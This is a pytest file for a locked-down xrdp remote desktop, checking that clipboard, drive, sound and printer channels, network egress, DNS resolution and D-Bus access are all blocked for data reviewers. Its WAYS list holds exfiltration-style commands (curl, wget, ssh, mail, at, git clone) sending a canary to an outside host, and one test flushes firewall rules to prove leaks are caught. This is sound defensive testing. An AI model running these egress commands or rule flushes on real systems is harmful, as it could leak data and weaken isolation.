"""Nothing leaves the remote desktop: not by its channels, the network, or those who would speak for somebody.

Each way is tried where it is open too, so that a test which could not see it go would fail.
"""

from __future__ import annotations

import json
import re
import shlex
import ssl
import time

import pytest

from backend_server.desktop.component import HELD
from tests.hosts.desktop import exits
from tests.hosts.desktop.desktops import (
    CANARY,
    PASSWORD,
    end_all,
    host_with_desktop,
    in_session,
    session,
    sessions_of,
)
from tests.hosts.desktop.exits import (
    carry,
    copy,
    copy_inside,
    desktop,
    own_channel_server,
    paste,
    paste_inside,
    watched,
)
from tests.hosts.desktop.reachable import BUS_NAMES, SOCKETS
from tests.hosts.desktop.remote import looking, negotiated, speaks_tls
from tests.hosts.managing import edited, manage, rests
from tests.hosts.programs import wait_until


pytestmark = pytest.mark.share("desktop")

SOON_S = 3  # what arrives where channels are open is there in less than one
BUSY_S = 60  # unless this machine is busy


@pytest.fixture(scope="module")
def host(shared_warm_host):
    host = host_with_desktop(shared_warm_host)
    exits.bring(host)
    return host


@pytest.fixture(scope="module")
def opened(host):
    """A session is open, and nobody looks at it."""
    with desktop(host, PASSWORD):
        pass
    return host


def soon(question, within_s):
    """Whether it comes true while it could."""
    deadline = time.monotonic() + within_s
    while not question():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.1)
    return True


# ---- what the client may ask for


def test_tls_alone_and_no_older_one(host):
    classic, tls, nla = 0, 1, 2
    agreed = 2  # of the answers that there are
    assert negotiated(host.address, tls) == agreed
    assert negotiated(host.address, classic) != agreed
    assert negotiated(host.address, nla) != agreed
    assert speaks_tls(host.address, ssl.TLSVersion.TLSv1_2)
    assert speaks_tls(host.address, ssl.TLSVersion.TLSv1_3)
    assert not speaks_tls(host.address, ssl.TLSVersion.TLSv1)
    assert not speaks_tls(host.address, ssl.TLSVersion.TLSv1_1)
    for older in ("/sec:rdp", "/sec:nla"):
        with looking(host, "gus", PASSWORD, older) as client:
            assert client.process.wait(20) != 0
    assert sessions_of(host) == []


def test_its_key_is_xrdps_alone(host):
    """And it listens where it should; sesman, which takes passwords, for the host alone."""
    key = "/etc/xrdp/opensafely.key"
    assert host.run(f"stat -c '%a %U %G' {key}").stdout == "640 root xrdp\n"
    assert host.run(f"runuser -u xrdp -- test -r {key}").returncode == 0
    for name in ("gus", "rita", "ada", "opensafely"):
        assert host.run(f"runuser -u {name} -- test -r {key}", check=False).returncode
    found = host.run("ss -Hltnp | grep -e xrdp -e ':335 '").stdout.splitlines()
    places = {line.split()[3] for line in found}
    assert places == {"0.0.0.0:3389", "127.0.0.1:335"}


# ---- channels

ASKED = (
    *("/sec:tls", "+clipboard", "/drive:out,/tmp", "/sound:sys:fake"),
    *("/printer:fake", "/dynamic-resolution"),
)
ANSWERS = {
    *("answers on the channel of the clipboard", "answers on the channel of sound"),
    *("answers on the channel of drives and printers", "answers on a dynamic channel"),
    f"the client's clipboard: {CANARY}-own-in",
}


def by_xrdps_own(host, within_s=SOON_S):
    """Which way a text goes by the channel server that sesman starts."""
    with desktop(host, PASSWORD, *ASKED) as client:
        copy(client, f"{CANARY}-in")
        inwards = soon(lambda: paste_inside(host) == f"{CANARY}-in", within_s)
        copy_inside(host, f"{CANARY}-out")
        outwards = soon(lambda: paste(client) == f"{CANARY}-out", within_s)
        assert host.run("grep -c thinclient /proc/mounts", check=False).stdout == "0\n"
    return {"in": inwards, "out": outwards}


def by_their_own(host, within_s=SOON_S):
    """The same by a program of the reviewer's own, and what a client says to it."""
    text = f"{CANARY}-own-out"
    with own_channel_server(host, PASSWORD, text, *ASKED) as (client, said):
        copy(client, f"{CANARY}-own-in")
        inwards = soon(lambda: said() >= ANSWERS, within_s)
        outwards = soon(lambda: paste(client) == text, within_s)
    end_all(host)
    return {"in": inwards, "out": outwards, "said": said() & ANSWERS}


def test_channels_are_dead(host):
    """Clipboard, drives, printers, sound and dynamic ones, both ways; the server is the user's own process."""
    assert by_xrdps_own(host) == {"in": False, "out": False}
    assert by_their_own(host) == {"in": False, "out": False, "said": set()}
    with exits.open_channels(host):
        assert by_xrdps_own(host, BUSY_S) == {"in": True, "out": True}
        found = by_their_own(host, BUSY_S)
        assert found == {"in": True, "out": True, "said": ANSWERS}


def test_a_program_that_the_client_names_gets_no_further(host):
    """Debian 12's xrdp starts it in the desktop's place: as the same person, with no more rights."""
    log = "/home/gus/named.log"
    tries = f"{carry(host)}; {exits.PYTHON} {exits.KINDS}; sleep 60"
    named = f"/shell:exec >{log} 2>&1; id -un; {tries}"
    with looking(host, "gus", PASSWORD, "/sec:tls", named):
        wait_until(lambda: "done" in host.run(f"cat {log}", check=False).stdout, 120)
    user, *opened, last = host.run(f"cat {log}").stdout.splitlines()
    assert (user, last) == ("gus", "done")
    # UNIX, INET, INET6, NETLINK: tests/hosts/base/test_wire.py tries the same elsewhere.
    kinds = {"1", "2", "10", "16"}
    assert {*opened} == kinds | {f"in a namespace: {kind}" for kind in kinds}
    end_all(host)


# ---- the network

ASK_RESOLVED = (
    "busctl --timeout=3 call org.freedesktop.resolve1 /org/freedesktop/resolve1 "
    "org.freedesktop.resolve1.Manager ResolveHostname isit 0 {canary}.example.org 0 0"
)
# By programs of the host, besides the ways of carry.py; those that a host lacks carry nothing.
WAYS = (
    ASK_RESOLVED,
    "curl -sm3 http://{internet}/{canary}",
    "curl -sm3 http://{canary}.example.org/",
    "wget -qT3 -t1 http://{internet}/{canary}",
    "ssh -oConnectTimeout=2 -oBatchMode=yes {canary}@{internet}",
    "ssh -oConnectTimeout=2 -oBatchMode=yes {canary}@localhost",
    "getent ahosts {canary}-nss.example.org",
    "resolvectl query {canary}.example.org",
    "logger -n {internet} {canary}",
    "echo {canary} | mail -s {canary} root@{internet}",
    "echo {canary} | sendmail root@{internet}",
    "echo {canary} | lp",
    "systemd-run --user --wait --quiet curl -sm3 http://{internet}/{canary}",
    "unshare -Ur curl -sm3 http://{internet}/{canary}",
    "echo 'curl -sm3 http://{internet}/{canary}' | at now",
    "git clone -q git://{internet}/{canary} /tmp/none",
)


def try_programs(host):
    """All at once, in the open session."""
    words = {"internet": exits.INTERNET, "canary": CANARY}
    ways = "".join(f"{{ {way.format(**words)}; }} & " for way in WAYS)
    tried = f"exec >/dev/null 2>&1; {ways} wait"
    host.run(in_session(host, tried, inside=False), check=False)


def carried(host, user="gus"):
    """The ways by which a process of theirs got something out, in the open session or beside it."""
    both = (in_session(host, carry(host), user, inside=each) for each in (True, False))
    return [line for each in both for line in host.run(each).stdout.splitlines()]


def test_nothing_is_carried_out(opened):
    """Neither by somebody with the reviewer's uid nor with one that they may give to others."""
    host = opened
    with watched(host) as seen:
        went = host.run(carry(host)).stdout.splitlines()
        host.run(f"getent ahosts {CANARY}.example.org", check=False)
    assert {*went} >= {"tcp 80", "tcp 127.0.0.1:22", "udp lite", "raw ip", "frames"}
    assert "mptcp" not in went, "the kernel opens those itself: nobody has them"
    assert seen.everywhere(), seen
    # As useradd did before, and may have on a host that is older.
    host.run("usermod --add-subuids 300000-365535 gus; backend apply --only firewall")
    start = "300000"
    with watched(host) as seen:
        assert carried(host) == []
        assert carried(host, f"{int(start) + 7}") == []
        try_programs(host)
    assert seen.nothing(), seen


def test_a_resolver_speaks_for_nobody(opened):
    """As on Ubuntu: resolved answers D-Bus and sockets for anybody, and resolv.conf leads to it."""
    host = opened
    policy = "/etc/dbus-1/system.d/opensafely.conf"
    ask = in_session(
        host, ASK_RESOLVED.format(canary=CANARY) + " >/dev/null 2>&1", inside=False
    )
    host.run(
        f"mv {policy} /root; systemctl unmask systemd-resolved nscd; cp /etc/resolv.conf /root; "
        "DEBIAN_FRONTEND=noninteractive apt-get -qq install systemd-resolved nscd; "
        f"ln -sf ../run/systemd/resolve/stub-resolv.conf /etc/resolv.conf"
    )
    gateway = exits.name_server(host)
    host.run(
        "mkdir -p /run/systemd/resolved.conf.d; systemctl reload dbus; "
        f"printf '[Resolve]\\nDNS={gateway}\\n' >/run/systemd/resolved.conf.d/lab.conf; "
        "systemctl restart systemd-resolved nscd"
    )
    with watched(host, resolv_conf=False) as seen:
        host.run(ask, check=False)
    assert seen.questions, "resolved asks for whoever asks it"
    assert manage(host, "--offline", backend="emis").returncode in (0, 4)
    assert host.run("readlink /etc/resolv.conf", check=False).stdout == ""
    with watched(host, resolv_conf=False) as seen:
        try_programs(host)
    assert seen.nothing(), seen
    with watched(host, resolv_conf=False) as seen:
        host.run(f"getent ahosts {CANARY}.example.org", check=False)
    assert seen.questions, "root still has a name server"
    host.run("cat /root/resolv.conf >/etc/resolv.conf")
    assert rests(host, "emis", words="--offline")


def test_the_kernel_asks_for_no_name_for_them(host):
    """Where shares are mounted, whoever asks for a key of this kind has root ask for a name."""
    ours = "/etc/request-key.d/opensafely.conf"
    key = "dns_resolver;0;0;1f0000;x.example.org"
    host.run("apt-get -qq install --no-install-recommends keyutils")
    would = f"request-key -d -n -v -D '{key}' create 1 0 0 0 0 0 x 2>&1"
    assert "Run /bin/keyctl\n" in host.run(would, check=False).stdout
    with edited(host, ours, ""):
        assert "Run /sbin/key.dns_resolver\n" in host.run(would, check=False).stdout


OPEN = "/run/anybody.sock"
LISTEN = (
    f"import os, socket, time; s = socket.socket(socket.AF_UNIX); s.bind('{OPEN}'); "
    f"os.chmod('{OPEN}', 0o666); s.listen(); time.sleep(600)"
)


def test_sockets_that_they_can_speak_to(opened):
    """Of other people's processes, only those that tests/hosts/desktop/reachable.py lists with a reason."""
    others = [
        path for path in sockets_open_to_gus(opened) if not allowed(path, SOCKETS)
    ]
    assert others == []
    assert "/run/dbus/system_bus_socket" in sockets_open_to_gus(opened)
    run = "systemd-run --quiet --unit=anybody python3 -I -S -c"
    opened.run(f"{run} {shlex.quote(LISTEN)}")
    wait_until(lambda: OPEN in sockets_open_to_gus(opened))
    opened.run("systemctl stop anybody")
    assert not allowed(OPEN, SOCKETS)


def sockets_open_to_gus(host):
    script = f"{exits.PYTHON} {exits.PLACE}/sockets.py gus"
    return [path for path, _, _ in json.loads(host.run(script).stdout)]


SNAPD = """\
cd /etc/systemd/system
printf '[Service]\\nExecStart=sleep infinity\\n' >snapd.service
printf '[Socket]\\nListenStream=/run/snapd.socket\\nSocketMode=0666\\n' >snapd.socket
mkdir -p snapd.socket.d; mv snapd.socket.d/opensafely.conf /root
systemctl daemon-reload; systemctl start snapd.socket; systemctl start snapd.service
"""


def test_snapd_answers_root_alone(opened):
    """A stand-in for it: as on Ubuntu, its socket is there, and open to everybody."""
    host, place = opened, "/run/snapd.socket"
    host.run(SNAPD)
    assert place in sockets_open_to_gus(host)
    assert manage(host, "--offline", backend="emis").returncode in (0, 4)
    for made in (
        "true",
        "systemctl stop snapd.service snapd.socket; systemctl start snapd.socket",
    ):
        host.run(made)
        assert host.run(f"test -S {place}").returncode == 0
        assert place not in sockets_open_to_gus(host)
    host.run(
        "cd /etc/systemd/system; systemctl stop snapd.socket; rm snapd.service snapd.socket"
    )


def allowed(name, known):
    return any(re.fullmatch(pattern, name) for pattern in known)


def test_names_on_the_system_bus_that_they_can_ask(opened):
    """All others are refused by the bus, those that it would start for them included."""
    host = opened
    listed = "busctl list --no-legend{} | awk '{{print $1}}'"
    names = {
        name
        for kind in ("", " --acquired", " --activatable")
        for name in host.run(listed.format(kind)).stdout.split()
        if not name.startswith(":")
    }
    assert names >= {"org.freedesktop.systemd1", "org.freedesktop.hostname1"}
    assert answered(host, names, "gus") == set(BUS_NAMES)
    assert "org.freedesktop.hostname1" in answered(host, names, "rita")


def answered(host, names, user):
    """Those that the bus lets USER call, whatever they answer."""
    ask = "busctl --timeout=5 call $name / org.freedesktop.DBus.Properties GetAll s ''"
    each = f"for name in {' '.join(names)}; do echo $name $({ask} 2>&1 | tr '\\n' ' '); done"
    said = host.run(f"runuser -u {user} -- sh -c {shlex.quote(each)}").stdout
    refused = ("ccess denied", "not authorized", "ermission denied")
    return {
        line.split()[0]
        for line in said.splitlines()
        if not any(word in line for word in refused)
    }


# ---- it stays so


def test_it_is_all_there_after_a_reboot(host):
    """And rules that somebody took away or bent are back after the next run."""
    log = "/home/gus/boot.log"
    cron = f"@reboot for i in 1 2 3; do {carry(host)} >>{log}; sleep 0.5; done; echo done >>{log}"
    host.run("crontab -u gus -", stdin=f"{cron}\n")
    host.reboot()
    wait_until(lambda: "done" in host.run(f"cat {log}", check=False).stdout, 60)
    assert host.run(f"cat {log}; crontab -u gus -r").stdout == "done\n"
    with desktop(host, PASSWORD):
        assert carried(host) == []
    for bend in (
        "nft flush ruleset",
        "nft flush set inet opensafely reviewers",
        "nft insert rule inet opensafely output accept",
    ):
        host.run(bend)
        assert carried(host) != []
        assert manage(host, "plan --offline", backend="emis").returncode == 3
        assert manage(host, "--offline", backend="emis").returncode in (0, 4)
        assert carried(host) == []
    end_all(host)


def test_a_later_reviewer_has_no_network_from_the_first(host):
    roster = "/srv/backend-server/emis/reviewers"
    host.run(f"echo vera >>{roster}")
    assert manage(host, "--yes --offline", backend="emis").returncode in (0, 4)
    uid = host.run("id -u vera").stdout.strip()
    assert carried_as(host, uid) == []
    host.run(f"sed -i /^vera/d {roster}")
    assert manage(host, "--yes --offline", backend="emis").returncode in (0, 4)


def carried_as(host, uid):
    as_them = f"setpriv --reuid {uid} --regid {uid} --clear-groups -- {carry(host)}"
    return host.run(as_them).stdout.splitlines()


# ---- an end, and a new xrdp


def test_a_session_that_is_ended_gives_its_display_back(host):
    """Else there would be none left after fifty, and nobody could come in until a reboot."""
    for _ in range(2):
        with desktop(host, PASSWORD):
            assert session(host)["DISPLAY"].partition(".")[0] == ":10"
            end_all(host)


def process(host, unit):
    return host.run(f"systemctl show --value -p MainPID {unit}").stdout.strip()


def test_what_an_upgrade_puts_back_is_seen_and_waits_for_people_to_go(host):
    """A package's own configuration, then ours again, which xrdp reads when nobody is there."""
    with desktop(host, PASSWORD):
        pass
    before = process(host, "xrdp")
    new = "-o Dpkg::Options::=--force-confask -o Dpkg::Options::=--force-confnew"
    defaults = f"apt-get -qq install --reinstall {new} xrdp"
    # Its script would start xrdp anew, as on a host where somebody does this by hand.
    host.write("/usr/sbin/policy-rc.d", "#!/bin/sh\nexit 101\n", 0o755)
    host.run(f"DEBIAN_FRONTEND=noninteractive {defaults} --allow-change-held-packages")
    host.run("rm /usr/sbin/policy-rc.d")
    assert "rdpdr=true" in host.read("/etc/xrdp/xrdp.ini")
    plan = manage(host, "plan --offline", backend="emis")
    assert (plan.returncode, "/etc/xrdp/xrdp.ini" in plan.stdout) == (3, True)
    assert manage(host, "--offline", backend="emis").returncode in (0, 4)
    assert process(host, "xrdp") == before
    assert "xrdp.service" in host.run("backend status", check=False).stdout
    end_all(host)
    assert manage(host, "--offline", backend="emis").returncode in (0, 4)
    assert process(host, "xrdp") != before
    assert {*HELD} <= {*host.run("apt-mark showhold").stdout.split()}
    assert rests(host, "emis", words="--offline")
